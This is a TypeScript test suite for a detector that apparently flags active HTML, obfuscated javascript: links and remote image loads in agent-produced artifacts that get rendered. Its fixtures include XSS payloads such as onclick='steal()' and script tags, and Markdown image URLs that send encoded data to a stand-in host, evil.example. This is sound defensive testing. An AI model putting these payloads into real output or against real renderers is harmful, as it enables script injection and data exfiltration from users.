import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { RecordOf } from '../../src/evidence/bundle.ts';
import { atsi } from '../../src/rules/atsi.ts';
import type { Profile } from '../../src/rules/profile.ts';
import {
  body,
  expectAnchored,
  expectMinimal,
  expectNothingWithoutEdges,
  expectPath,
  findings,
  level,
  profile,
  sha256,
  shown,
  Trace,
  told,
} from './support.ts';

type Artifact = Partial<RecordOf<'artifacts'>>;
type Render = Partial<RecordOf<'artifact_renders'>>;

const ACTIVE = '<p onclick="steal()">hello</p>';
const INERT = '<p>hello</p>';

const by = (policy: Partial<Profile['atsi']> = {}) => profile({ atsi: policy });
const judge = (trace: Trace, policy: Partial<Profile['atsi']> = {}) => atsi.judge(trace.graph(), by(policy));

const produced = (text: string, fields: Artifact = {}) =>
  new Trace()
    .add('trace_metadata', 'trace')
    .add('exchanges', 'x')
    .add('artifacts', 'a', { exchange_id: 'x', content: body(text), media_type: 'text/html', ...fields });

const render = (trace: Trace, input: string, fields: Render = {}) =>
  trace.add('artifact_renders', 'v', {
    artifact_record_id: 'a',
    interpreted_as: 'text/html',
    input_sha256: sha256(input),
    ...fields,
  });

const rendered = (text: string, fields: Render = {}, artifact: Artifact = {}) =>
  render(produced(text, artifact), text, fields);

const unwatched = (trace: Trace): Trace => {
  const [metadata] = trace.records().trace_metadata;
  return Object.assign(trace, {
    records: () => ({
      ...Trace.prototype.records.call(trace),
      trace_metadata: [{ ...metadata!, coverage: { ...metadata!.coverage, artifact_render: false } }],
    }),
  });
};

/** A stream of chunks, each continuing the one before unless told otherwise. */
const chunks = (parts: readonly { readonly text: string | null; readonly append: boolean }[]) => {
  const trace = new Trace().add('trace_metadata', 'trace').add('exchanges', 'x');
  for (const [i, { text, append }] of parts.entries()) {
    trace.add('artifacts', `c${i}`, {
      exchange_id: 'x',
      content: text === null ? null : body(text),
      part_kind: text === null ? null : 'text',
      part_index: text === null ? null : 0,
      append,
      appends_to: append ? `c${i - 1}` : null,
    });
  }
  return trace;
};

const joined = (texts: readonly string[]) => chunks(texts.map((text, i) => ({ text, append: i > 0 })));

describe('condition and control', () => {
  it('finds the artifact, once, with the actual indicator', () => {
    const { triggers, statements } = judge(rendered(ACTIVE));
    expect([triggers, ...told(statements)]).toEqual([1, 'ATSI_ACTIVE_CONTENT_INTERPRETED a']);
    expect(statements[0]!.explanation).toContain('event-handler');
    expect(statements[0]!.explanation).toContain('steal()');
    expectPath(statements[0]!);
    expect(shown(statements[0]!.path)).toEqual([
      'RuntimeExchange x',
      'EXCHANGE_PRODUCED_ARTIFACT',
      'ArtifactEvidence a',
    ]);
    expect(shown(expectMinimal(atsi.judge, statements[0]!, by()))).toEqual([
      'RuntimeExchange x',
      'EXCHANGE_PRODUCED_ARTIFACT',
      'ArtifactEvidence a',
      'ARTIFACT_RENDERED',
      'ArtifactRenderEvidence v',
    ]);
  });

  it('says nothing of inert content that was rendered', () => {
    expect(judge(rendered(INERT))).toEqual({ triggers: 1, statements: [] });
  });

  it('gives one finding for an artifact that was rendered twice, and counts the other', () => {
    const trace = rendered(ACTIVE).add('artifact_renders', 'v2', {
      artifact_record_id: 'a',
      interpreted_as: 'text/html',
      input_sha256: sha256(ACTIVE),
    });
    const { triggers, statements } = judge(trace);
    expect([triggers, ...told(statements)]).toEqual([2, 'ATSI_ACTIVE_CONTENT_INTERPRETED a']);
    expect(statements[0]!.explanation).toContain('Further renders with the same result: 1');
  });

  it('switches on the marker of experiments by the profile', () => {
    const text = '<p>a2aft-marker</p>';
    expect(told(judge(rendered(text), { inert_marker: 'a2aft-marker' }).statements)).toEqual([
      'ATSI_ACTIVE_CONTENT_INTERPRETED a',
    ]);
    expect(judge(rendered(text)).statements).toEqual([]);
  });
});

describe('anchors', () => {
  it('is INCONCLUSIVE without any one anchor edge, and names it', () => {
    expectAnchored(atsi.judge, rendered(ACTIVE), by(), ['EXCHANGE_PRODUCED_ARTIFACT', 'ARTIFACT_RENDERED']);
  });
  it('is INCONCLUSIVE for every trigger on records without edges', () => {
    expectNothingWithoutEdges(atsi.judge, rendered(ACTIVE), by());
    expectNothingWithoutEdges(atsi.judge, rendered(INERT), by());
    expectNothingWithoutEdges(atsi.judge, produced(ACTIVE), by());
    expectNothingWithoutEdges(atsi.judge, joined(['<scr', 'ipt>']), by());
  });
});

describe('which bytes the renderer received', () => {
  const sanitized = (output: string, input: string, linked: 'by render' | 'by artifact') =>
    render(
      produced(ACTIVE).add('sanitizers', 's', {
        artifact_record_id: linked === 'by artifact' ? 'a' : null,
        input_sha256: sha256(ACTIVE),
        output: body(output),
      }),
      input,
      { sanitizer_id: linked === 'by render' ? 's' : null },
    );

  it.each(['by render', 'by artifact'] as const)('judges the output of a sanitizer that is linked %s', (linked) => {
    expect(judge(sanitized(INERT, INERT, linked)).statements).toEqual([]);
    const kept = judge(sanitized('<a href="java&#10;script:x()">x</a>', '<a href="java&#10;script:x()">x</a>', linked));
    expect(told(kept.statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED a']);
    expect(kept.statements[0]!.explanation).toContain('the output of sanitizer sanitizer (s)');
    expect(shown(expectMinimal(atsi.judge, kept.statements[0]!, by()))).toContain('SanitizerEvidence s');
  });

  it('judges the artifact itself where the sanitizer was bypassed', () => {
    expect(told(judge(sanitized(INERT, ACTIVE, 'by artifact')).statements)).toEqual([
      'ATSI_ACTIVE_CONTENT_INTERPRETED a',
    ]);
  });

  it('finds a script that is split over chunks, on all of them', () => {
    const trace = joined(['<scr', 'ipt>alert(1)</scr', 'ipt>']);
    render(trace, '<script>alert(1)</script>', { artifact_record_id: 'c2' });
    const { statements } = judge(trace);
    expect(told(statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED c2']);
    const minimal = shown(expectMinimal(atsi.judge, statements[0]!, by()));
    expect(minimal.filter((name) => name === 'ARTIFACT_APPENDS_TO')).toHaveLength(2);
  });

  it('judges one chunk alone where that is what was rendered', () => {
    const trace = render(joined(['<script>', INERT]), INERT, { artifact_record_id: 'c1' });
    expect(judge(trace)).toEqual({ triggers: 1, statements: [] });
  });

  it('is INCONCLUSIVE for bytes that nothing recorded has', () => {
    const { statements } = judge(render(produced(INERT), ACTIVE));
    expect(told(statements)).toEqual(['ATSI_INPUT_NOT_TRACED v']);
    expect(statements[0]!.missing).toEqual(['input_sha256']);
    expectPath(statements[0]!);
  });

  it('bounds what it puts together: every prefix of a long stream rendered', () => {
    const part = '<p>'.padEnd(1024 * 1024, 'x');
    const trace = joined(Array.from({ length: 12 }, () => part));
    for (let i = 1; i < 12; i++) {
      trace.add('artifact_renders', `v${i}`, {
        artifact_record_id: `c${i}`,
        interpreted_as: 'text/plain',
        input_sha256: sha256(part.repeat(i + 1)),
      });
    }
    const reasons = judge(trace).statements.map(({ reason, affected }) => `${reason} ${affected.id}`);
    expect(reasons).toEqual(['ATSI_INPUT_NOT_TRACED v10', 'ATSI_INPUT_NOT_TRACED v11']);
  });

  it('follows a hundred thousand chunks', () => {
    const texts = Array.from({ length: 100_000 }, (_, i) => (i === 50_000 ? '<script>x()</script>' : 'a'));
    const trace = render(joined(texts), texts.join(''), { artifact_record_id: 'c99999' });
    expect(told(judge(trace).statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED c99999']);
  });
});

describe('what the renderer took it for', () => {
  it('takes the source view for inert, at most an observation', () => {
    const { statements } = judge(rendered(ACTIVE, { mode: 'source' }));
    expect(told(statements)).toEqual(['ATSI_ACTIVE_SHOWN_AS_SOURCE a']);
    expect(level(statements[0]!)).toBe('note');
    expectMinimal(atsi.judge, statements[0]!, by());
    expect(judge(rendered(INERT, { mode: 'source' })).statements).toEqual([]);
  });

  it.each(['text/plain', 'application/json', 'image/png'])('takes active content for inert as %s', (type) => {
    expect(judge(rendered(ACTIVE, { interpreted_as: type }))).toEqual({ triggers: 1, statements: [] });
  });

  it('is INCONCLUSIVE where the type is not known', () => {
    const { statements } = judge(rendered(INERT, { interpreted_as: null }));
    expect(told(statements)).toEqual(['FACT_MISSING v']);
    expect(statements[0]!.missing).toEqual(['interpreted_as']);
  });

  it('is INCONCLUSIVE for a type without a detector, and names it', () => {
    const { statements } = judge(rendered('%PDF-1.7', { interpreted_as: 'application/pdf' }));
    expect(told(statements)).toEqual(['ATSI_NOT_JUDGED a']);
    expect(statements[0]!.explanation).toContain('application/pdf');
    expectMinimal(atsi.judge, statements[0]!, by());
  });

  it('calls active content in a renderer that the profile lists as sandboxed an observation', () => {
    const { statements } = judge(rendered(ACTIVE), { sandboxed_renderers: ['panel'] });
    expect(told(statements)).toEqual(['ATSI_ACTIVE_CONTENT_SANDBOXED a']);
    expect(level(statements[0]!)).toBe('warning');
    expect(told(judge(rendered(ACTIVE), { sandboxed_renderers: ['other'] }).statements)).toEqual([
      'ATSI_ACTIVE_CONTENT_INTERPRETED a',
    ]);
  });

  it.each([
    ['code fence', '```html\n<script>alert(1)</script>\n```'],
    ['code span', 'Use `<script>` with care.'],
    ['prose', 'The onclick handler of a script runs javascript: it is dangerous.'],
    ['link', 'See [the report](https://elsewhere.example/report).'],
  ])('takes a %s in Markdown for inert', (_trap, text) => {
    expect(judge(rendered(text, { interpreted_as: 'text/markdown' })).statements).toEqual([]);
  });
});

describe('remote loads', () => {
  it.each([
    ['![p](https://evil.example/p?d=QUJD)', 'text/markdown', 'https://evil.example/p?d=QUJD'],
    ['![p][1]\n\n[1]: https://evil.example/p?d=QUJD', 'text/markdown', 'https://evil.example/p?d=QUJD'],
    ['<video poster="https://evil.example/p?d=S"></video>', 'text/html', 'https://evil.example/p?d=S'],
  ])('finds the load of %s under its own code, with host and full URL', (text, type, url) => {
    const { statements } = judge(rendered(text, { interpreted_as: type }));
    expect(told(statements)).toEqual(['ATSI_REMOTE_LOAD a']);
    expect(statements[0]!.explanation).toContain(url);
    expect(statements[0]!.explanation).toContain('"evil.example"');
    expectMinimal(atsi.judge, statements[0]!, by());
    expect(
      told(judge(rendered(text, { interpreted_as: type }), { sandboxed_renderers: ['panel'] }).statements),
    ).toEqual(['ATSI_REMOTE_LOAD_SANDBOXED a']);
  });

  it('takes a load from the host of the exchange for none', () => {
    const text = '![p](https://agent.example/p.png)';
    expect(judge(rendered(text, { interpreted_as: 'text/markdown' })).statements).toEqual([]);
  });

  it('does not count a load twice beside active content', () => {
    const text = `${ACTIVE}<img src="https://evil.example/p.png">`;
    const { statements } = judge(rendered(text));
    expect(told(statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED a']);
    expect(statements[0]!.explanation).toContain('https://evil.example/p.png');
  });
});

describe('artifacts that nobody was seen to render', () => {
  it('observes active content where renders were watched, else is INCONCLUSIVE', () => {
    const seen = judge(produced(ACTIVE));
    expect([seen.triggers, ...told(seen.statements)]).toEqual([1, 'ATSI_ACTIVE_UNRENDERED a']);
    expect(level(seen.statements[0]!)).toBe('warning');
    expect(shown(expectMinimal(atsi.judge, seen.statements[0]!, by()))).toContain('TraceMetadata trace');

    const { triggers, statements } = judge(unwatched(produced(ACTIVE)));
    expect([triggers, ...told(statements)]).toEqual([1, 'ATSI_RENDER_NOT_WATCHED a']);
    expect(level(statements[0]!)).toBe('inconclusive');
    expect(statements[0]!.missing).toEqual(['coverage.artifact_render']);
    expectMinimal(atsi.judge, statements[0]!, by());
  });

  it.each([
    ['text in Markdown', 'hello', { media_type: 'text/markdown' }],
    ['text without a type', 'Use a script, or `<b>`', { media_type: null }],
    ['data', '{"html":"<script>alert(1)</script>"}', { media_type: null, part_kind: 'data' as const }],
  ])('says nothing of inert %s, watched or not', (_what, text, fields) => {
    expect(judge(produced(text, fields))).toEqual({ triggers: 0, statements: [] });
    expect(judge(unwatched(produced(text, fields)))).toEqual({ triggers: 0, statements: [] });
  });

  it.each([
    [
      'a script without a type, active as Markdown too',
      '<script>alert(1)</script>',
      { media_type: null },
      'ATSI_RENDER_NOT_WATCHED',
    ],
    [
      'a code fence without a type',
      '```\n<script>alert(1)</script>\n```',
      { media_type: null },
      'ATSI_ACTIVE_ONLY_AS_HTML',
    ],
    ['a PDF', '%PDF-1.7', { media_type: 'application/pdf' }, 'ATSI_UNRENDERED_NOT_JUDGED'],
    ['a remote image', '![](https://evil.example/)', { media_type: 'text/markdown' }, 'ATSI_REMOTE_LOAD_UNRENDERED'],
  ])('tells %s apart, in an unwatched trace', (_what, text, fields, reason) => {
    const { triggers, statements } = judge(unwatched(produced(text, fields)));
    expect(told(statements)).toEqual([`${reason} a`]);
    expect(level(statements[0]!)).toBe(triggers === 1 ? 'inconclusive' : 'note');
    expectMinimal(atsi.judge, statements[0]!, by());
  });

  it('says nothing of a part that is given by reference or of an empty list', () => {
    const nothing = { content: null, media_type: null };
    expect(judge(produced('', { ...nothing, part_kind: 'url', part_url: 'https://a.example/' })).statements).toEqual(
      [],
    );
    expect(judge(produced('', { ...nothing, part_kind: null, part_index: null })).statements).toEqual([]);
  });

  it('counts what was rendered up to an empty last chunk as rendered', () => {
    const trace = chunks([
      { text: ACTIVE, append: false },
      { text: null, append: true },
    ]);
    render(trace, ACTIVE, { artifact_record_id: 'c0' });
    expect(told(judge(trace).statements)).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED c0']);
  });
});

describe('content that the trace does not hold', () => {
  const cut = { ...body('<p>hel'), size: 3_000_000, sha256: sha256('all of it'), truncated: 6 };

  it.each([null, 'text/html', 'image/png'])('is INCONCLUSIVE for a cut artifact of type %s', (media_type) => {
    const { triggers, statements } = judge(produced('', { content: cut, media_type }));
    expect([triggers, ...told(statements)]).toEqual([1, 'ATSI_CONTENT_NOT_HELD a']);
    expect(statements[0]!.missing).toEqual(['content']);
    expect(statements[0]!.explanation).toContain('6 of 3000000 bytes');
  });

  it('is INCONCLUSIVE for a cut artifact that was rendered, unless its type is inert', () => {
    const as = (type: string) => judge(rendered('all of it', { interpreted_as: type }, { content: cut })).statements;
    expect(told(as('text/html'))).toEqual(['ATSI_CONTENT_NOT_HELD v']);
    expect(as('image/png')).toEqual([]);
  });

  it('is INCONCLUSIVE where one chunk of many was cut or could not be read', () => {
    for (const content of [cut, null]) {
      const trace = produced('<p>', { content, wire_issue: { content: 'truncated' } });
      trace.add('artifacts', 'b', { exchange_id: 'x', appends_to: 'a', append: true, content: body('</p>') });
      expect(told(judge(trace).statements)).toEqual(['ATSI_CONTENT_NOT_HELD b']);
      render(trace, '<p></p>', { artifact_record_id: 'b' });
      expect(told(judge(trace).statements)).toEqual(['ATSI_CONTENT_NOT_HELD v']);
    }
  });
});

describe('streams of reported cases', () => {
  type Update = { result: { artifact?: { parts: { text: string }[] }; append?: boolean } };
  const streamed = (name: string) =>
    chunks(
      readFileSync(new URL(`../cases/a2a/${name}`, import.meta.url), 'utf8')
        .split('\n')
        .filter((line) => line.startsWith('data: '))
        .map((line) => (JSON.parse(line.slice(6)) as Update).result)
        .flatMap(({ artifact, append }) =>
          artifact === undefined ? [] : [{ text: artifact.parts[0]?.text ?? null, append: append === true }],
        ),
    );

  it('finds the script over three chunks and an empty last one', () => {
    expect(told(judge(streamed('A5-snapshot.sse')).statements)).toEqual(['ATSI_ACTIVE_UNRENDERED c3']);
    const shownThere = render(streamed('A5-snapshot.sse'), '<script>alert(1)</script>', { artifact_record_id: 'c3' });
    expect(told(findings(judge(shownThere)))).toEqual(['ATSI_ACTIVE_CONTENT_INTERPRETED c3']);
  });

  it('takes a full copy for a new beginning', () => {
    const traced = (text: string) => render(streamed('A5-replace.sse'), text, { artifact_record_id: 'c3' });
    expect(judge(traced('Hello!')).statements).toEqual([]);
    expect(told(judge(traced('HelloHello!')).statements)).toEqual(['ATSI_INPUT_NOT_TRACED v']);
  });
});
